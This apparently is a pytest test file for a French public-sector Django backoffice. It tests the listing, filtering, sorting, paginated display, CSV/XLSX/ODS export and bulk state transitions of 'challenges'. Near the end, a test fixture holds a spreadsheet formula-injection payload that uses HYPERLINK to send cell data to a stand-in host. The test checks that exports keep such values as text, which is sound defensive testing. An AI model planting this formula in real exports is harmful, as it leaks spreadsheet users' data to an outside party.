import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from html.parser import HTMLParser
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.urls import reverse

from lifecycle.enums import AdministrationKind, AuditKind, ChallengeState
from lifecycle.models import AuditEvent, Challenge
from notifications.enums import DeliveryStatus
from notifications.models import Notification
from tests.factories import AdministrationFactory, ChallengeFactory, PromotionFactory
from tests.html_forms import form_data

PARIS = ZoneInfo("Europe/Paris")
S = ChallengeState
URL = reverse("backoffice:challenges")


def names(response):
    """The challenge names of the list's rows, in order."""
    html = response.content.decode()
    return re.findall(r'<th scope="row"><a href="/[^"]*">([^<]+)</a></th>', html)


@pytest.fixture
def cases(db):
    eig2 = PromotionFactory(number=2, name="EIG 2")
    eig3 = PromotionFactory(number=3, name="EIG 3")
    intérieur = AdministrationFactory(name="Ministère de l’Intérieur", kind=AdministrationKind.MINISTRY)
    lyon = AdministrationFactory(name="Région Occitanie", kind=AdministrationKind.TERRITORIAL_AUTHORITY)
    cnil = AdministrationFactory(name="CNIL", kind=AdministrationKind.INDEPENDENT_AUTHORITY)
    rows = [
        ("Bases adresses", eig3, intérieur, S.SUBMITTED, True, dt.datetime(2018, 6, 1, 9, 30, tzinfo=PARIS)),
        (
            "Cartographie des aides",
            eig3,
            lyon,
            S.SELECTED,
            False,
            dt.datetime(2018, 7, 5, 18, 0, tzinfo=PARIS),
        ),
        ("Accès aux données", eig3, cnil, S.PRESELECTED, False, None),
        ("Déclic", eig2, intérieur, S.RUNNING, True, dt.datetime(2017, 11, 2, 8, 0, tzinfo=PARIS)),
    ]
    created = {}
    for name, promotion, administration, state, pia, changed in rows:
        created[name] = ChallengeFactory(
            name=name,
            promotion=promotion,
            administration=administration,
            state=state,
            cofinancing_requested=pia,
            cofinancing_amount=Decimal("105000.00") if pia else None,
            state_changed_at=changed,
            dossier_rows=False,
        )
    return {"eig2": eig2, "eig3": eig3, **created}


def test_default_order_is_by_name(manager_client, cases):
    response = manager_client.get(URL)
    assert names(response) == ["Accès aux données", "Bases adresses", "Cartographie des aides", "Déclic"]
    assert "4 défis trouvés" in response.content.decode()


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"state": "submitted"}, ["Bases adresses"]),
        ({"promotion": "eig2"}, ["Déclic"]),
        ({"kind": "ministry"}, ["Bases adresses", "Déclic"]),
        ({"cofinancement": "oui"}, ["Bases adresses", "Déclic"]),
        ({"cofinancement": "non"}, ["Accès aux données", "Cartographie des aides"]),
        ({"cofinancement": "non", "kind": "independent_authority"}, ["Accès aux données"]),
        ({"q": "cartographie"}, ["Cartographie des aides"]),
        ({"q": "Intérieur"}, ["Bases adresses", "Déclic"]),
        ({"q": "occitanie"}, ["Cartographie des aides"]),
        ({"q": "introuvable"}, []),
    ],
)
def test_filters_and_search(manager_client, cases, query, expected):
    if query.get("promotion"):
        query = {**query, "promotion": cases[query["promotion"]].pk}
    assert names(manager_client.get(URL, query)) == expected


@pytest.mark.parametrize(
    ("sort", "expected"),
    [
        ("-nom", ["Déclic", "Cartographie des aides", "Bases adresses", "Accès aux données"]),
        ("administration", ["Accès aux données", "Bases adresses", "Déclic", "Cartographie des aides"]),
        ("etat", ["Bases adresses", "Accès aux données", "Cartographie des aides", "Déclic"]),
        ("-etat", ["Déclic", "Cartographie des aides", "Accès aux données", "Bases adresses"]),
        ("changement", ["Déclic", "Bases adresses", "Cartographie des aides", "Accès aux données"]),
        ("-changement", ["Cartographie des aides", "Bases adresses", "Déclic", "Accès aux données"]),
    ],
)
def test_sort(manager_client, cases, sort, expected):
    assert names(manager_client.get(URL, {"tri": sort})) == expected


def test_column_headers_sort_and_reverse_the_sort(manager_client, cases):
    html = manager_client.get(URL, {"state": "submitted", "page": "2"}).content.decode()
    assert '<th scope="col" aria-sort="ascending"><a href="?state=submitted&amp;tri=-nom"' in html
    assert '<th scope="col"><a href="?state=submitted&amp;tri=etat"' in html
    html = manager_client.get(URL, {"tri": "-etat"}).content.decode()
    assert '<th scope="col" aria-sort="descending"><a href="?tri=etat"' in html


def test_an_invalid_filter_shows_everything_with_a_message(manager_client, cases):
    response = manager_client.get(URL, {"state": "nowhere"})
    assert len(names(response)) == 4
    assert "Certains filtres ne sont pas valides" in response.content.decode()


def test_pagination_shows_25_rows_a_page_and_keeps_the_filters(manager_client, db):
    promotion = PromotionFactory(number=7)
    administration = AdministrationFactory()
    Challenge.objects.bulk_create(
        Challenge(name=f"Défi {n:03d}", promotion=promotion, administration=administration) for n in range(60)
    )
    first = manager_client.get(URL, {"promotion": promotion.pk})
    html = first.content.decode()
    assert names(first) == [f"Défi {n:03d}" for n in range(25)]
    assert 'aria-current="page"' in html
    assert f'title="Page 2"\n               href="?promotion={promotion.pk}&amp;page=2">2</a>' in html
    assert '<input type="search" name="q" class="fr-input" id="id_q">' in html
    third = manager_client.get(URL, {"promotion": promotion.pk, "page": 3})
    assert names(third) == [f"Défi {n:03d}" for n in range(50, 60)]


CSV_HEADER = (
    "Identifiant;Défi;Administration;Nature de l’administration;Promotion;État;"
    "Co-financement demandé;Montant du co-financement (€);Coût total employeur (€);"
    "Dernier changement d’état (heure de Paris)"
)


def test_csv_export_of_the_filtered_list(manager_client, cases):
    response = manager_client.get(
        reverse("backoffice:challenges_export", args=["csv"]), {"kind": "ministry", "tri": "-nom"}
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="defis.csv"'
    declic, bases = cases["Déclic"].pk, cases["Bases adresses"].pk

    def line(text):  # every cell quoted
        return ";".join(f'"{cell}"' for cell in text.split(";")) + "\r\n"

    assert response.content.decode("utf-8-sig") == (
        line(CSV_HEADER)
        + line(
            f"{declic};Déclic;Ministère de l’Intérieur;Ministère ou service de l’État;EIG 2;En cours;Oui;"
            "105000.00;150000.00;02/11/2017 08:00"
        )
        + line(
            f"{bases};Bases adresses;Ministère de l’Intérieur;Ministère ou service de l’État;EIG 3;"
            "Déposé;Oui;105000.00;150000.00;01/06/2018 09:30"
        )
    )
    assert response.content.startswith("\ufeff".encode())


def test_xlsx_export_has_every_matching_row_beyond_one_page(manager_client, cases):
    promotion = cases["eig3"]
    administration = AdministrationFactory(name="Ministère des Armées")
    Challenge.objects.bulk_create(
        Challenge(name=f"Z défi {n:02d}", promotion=promotion, administration=administration)
        for n in range(30)
    )
    response = manager_client.get(
        reverse("backoffice:challenges_export", args=["xlsx"]), {"promotion": promotion.pk}
    )
    assert response["Content-Disposition"] == 'attachment; filename="defis.xlsx"'
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert ";".join(rows[0]) == CSV_HEADER
    assert len(rows) == 1 + 3 + 30
    assert rows[1][1:] == (
        "Accès aux données",
        "CNIL",
        "Autorité administrative indépendante",
        "EIG 3",
        "Présélectionné",
        "Non",
        None,
        150000,
        None,
    )
    assert rows[2][1] == "Bases adresses"
    assert rows[2][7] == 105000
    assert rows[2][9] == dt.datetime(2018, 6, 1, 9, 30)
    assert rows[-1][1] == "Z défi 29"


def test_export_links_carry_the_filters(manager_client, cases):
    html = manager_client.get(URL, {"state": "submitted", "page": "1"}).content.decode()
    assert f'href="{reverse("backoffice:challenges_export", args=["csv"])}?state=submitted"' in html


# Bulk transitions -------------------------------------------------------------------------------


def test_bulk_transition_moves_each_row_audits_it_and_reports_refusals(manager_client, manager, db):
    promotion = PromotionFactory(number=9)
    first = ChallengeFactory(promotion=promotion, state=S.SUBMITTED, name="Alpha")
    second = ChallengeFactory(promotion=promotion, state=S.SUBMITTED, name="Bravo")
    running = ChallengeFactory(promotion=promotion, state=S.RUNNING, name="Charlie")
    back = f"{URL}?state=submitted"

    confirmation = manager_client.post(
        reverse("backoffice:bulk_transition"),
        {"transition": "preselect", "challenges": [first.pk, second.pk, running.pk], "next": back},
    )
    assert confirmation.status_code == 200  # the confirmation step: nothing moved yet
    assert not AuditEvent.objects.filter(kind=AuditKind.TRANSITION).exists()
    data = form_data(confirmation.content.decode(), "bulk-confirm")
    data.update(reason="Comité du 2 juillet", hold_mail="1", confirm="1")
    response = manager_client.post(reverse("backoffice:bulk_transition"), data, follow=True)

    assert response.redirect_chain == [(back, 302)]
    html = response.content.decode()
    assert "« Présélectionner » : 2 défis modifiés." in html
    assert "« Charlie » : « Présélectionner » n’est pas possible depuis l’état « En cours »." in html
    for challenge in (first, second):
        challenge.refresh_from_db()
        assert challenge.state == S.PRESELECTED
        event = AuditEvent.objects.get(challenge=challenge, kind=AuditKind.TRANSITION)
        assert (event.transition, event.reason, event.actor) == ("preselect", "Comité du 2 juillet", manager)
    running.refresh_from_db()
    assert running.state == S.RUNNING
    assert not AuditEvent.objects.filter(challenge=running, kind=AuditKind.TRANSITION).exists()
    mails = Notification.objects.filter(challenge__in=[first, second])
    assert mails.exists()
    assert set(mails.values_list("status", flat=True)) == {DeliveryStatus.HELD}


def test_bulk_transition_without_a_reason_moves_nothing_and_says_why(manager_client, db):
    challenge = ChallengeFactory(state=S.SUBMITTED, name="Delta", dossier_rows=False)
    response = manager_client.post(
        reverse("backoffice:bulk_transition"),
        {"transition": "reject", "reason": " ", "challenges": challenge.pk, "step": "confirm", "confirm": 1},
    )
    html = response.content.decode()
    assert "Indiquez le motif de la décision : il est obligatoire pour cette action." in html
    assert "« Ne pas présélectionner » n’a pas été effectué : rien n’a changé." in html
    challenge.refresh_from_db()
    assert challenge.state == S.SUBMITTED


def test_bulk_transition_needs_a_selection_and_an_action(manager_client, db):
    challenge = ChallengeFactory(state=S.SUBMITTED, dossier_rows=False)
    response = manager_client.post(
        reverse("backoffice:bulk_transition"), {"transition": "withdraw"}, follow=True
    )
    assert "Sélectionnez au moins un défi." in response.content.decode()
    response = manager_client.post(
        reverse("backoffice:bulk_transition"),
        {"challenges": [challenge.pk], "next": "https://ailleurs.example/"},
    )
    assert response["Location"] == URL


def test_the_bulk_form_is_on_the_list(manager_client, cases):
    html = manager_client.get(URL).content.decode()
    bases = cases["Bases adresses"].pk
    assert f'<input type="checkbox" name="challenges" value="{bases}" id="select-{bases}">' in html
    assert '<select class="fr-select" id="bulk-transition" name="transition" required>' in html
    # The reason and the hold option are asked on the confirmation page, once the action is known.
    assert 'for="select-page">Tout sélectionner sur cette page</label>' in html
    assert "Appliquer aux 4 défis qui correspondent au filtre, sur toutes les pages, cochés ou non" in html


class _Tags(HTMLParser):
    """The start tags of a page, in order, each with its attributes."""

    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def test_every_box_of_the_list_is_followed_by_its_label_so_that_dsfr_draws_it(manager_client, cases):
    # DSFR draws a box from `.fr-checkbox-group input + label`: anything between them (the
    # page's hidden rows once were) leaves an invisible box that cannot be ticked.
    parser = _Tags()
    parser.feed(manager_client.get(URL).content.decode())
    tags = parser.tags
    boxes = [i for i, (tag, attrs) in enumerate(tags) if tag == "input" and attrs.get("type") == "checkbox"]
    rows = [i for i in boxes if tags[i][1].get("name") == "challenges"]
    assert len(rows) == 4
    for i in boxes:
        tag, attrs = tags[i + 1]
        assert (tag, attrs.get("for")) == ("label", tags[i][1]["id"]), tags[i]
    # Each row's label holds the challenge's name for screen readers, and a box-sized area.
    bases = cases["Bases adresses"].pk
    label = next(tags[i + 1][1] for i in rows if tags[i][1]["value"] == str(bases))
    assert label["style"] == "min-height: 1.5rem;"
    # Without a script, the whole-page box still takes the page's rows (hidden, outside the boxes).
    data = form_data(manager_client.get(URL).content.decode(), "bulk-form")
    assert sorted(data["on_page"]) == sorted(str(pk) for pk in Challenge.objects.values_list("pk", flat=True))


FORMULA = '=HYPERLINK("http://exemple.invalid/vol?"&A1,"Cliquez")'


@pytest.mark.parametrize("file_format", ["csv", "xlsx", "ods"])
def test_a_name_that_looks_like_a_formula_stays_text_in_every_export(manager_client, file_format):
    ChallengeFactory(name=FORMULA, dossier_rows=False)
    ChallengeFactory(name="-2+3", dossier_rows=False)
    ChallengeFactory(name="@SUM(1)", dossier_rows=False)
    # After spaces (which a spreadsheet may trim), and in full-width signs.
    ChallengeFactory(name="  =1+1", dossier_rows=False)
    ChallengeFactory(name="\u3000＝1+1", dossier_rows=False)
    ChallengeFactory(name="＋33 1 23", dossier_rows=False)
    response = manager_client.get(reverse("backoffice:challenges_export", args=[file_format]))
    assert response.status_code == 200
    if file_format == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
        names = sorted(row[1] for row in rows[1:])
        assert names == sorted(["'" + FORMULA, "'-2+3", "'@SUM(1)", "'  =1+1", "'\u3000＝1+1", "'＋33 1 23"])
    elif file_format == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        cells = [sheet.cell(row=row, column=2) for row in range(2, 8)]
        assert sorted(cell.value for cell in cells) == sorted(
            [FORMULA, "-2+3", "@SUM(1)", "  =1+1", "\u3000＝1+1", "＋33 1 23"]
        )
        assert {cell.data_type for cell in cells} == {"s"}  # strings, not formulas
    else:
        content = zipfile.ZipFile(io.BytesIO(response.content)).read("content.xml").decode()
        assert "table:formula" not in content
        assert 'office:value-type="string"' in content and "=HYPERLINK(" in content
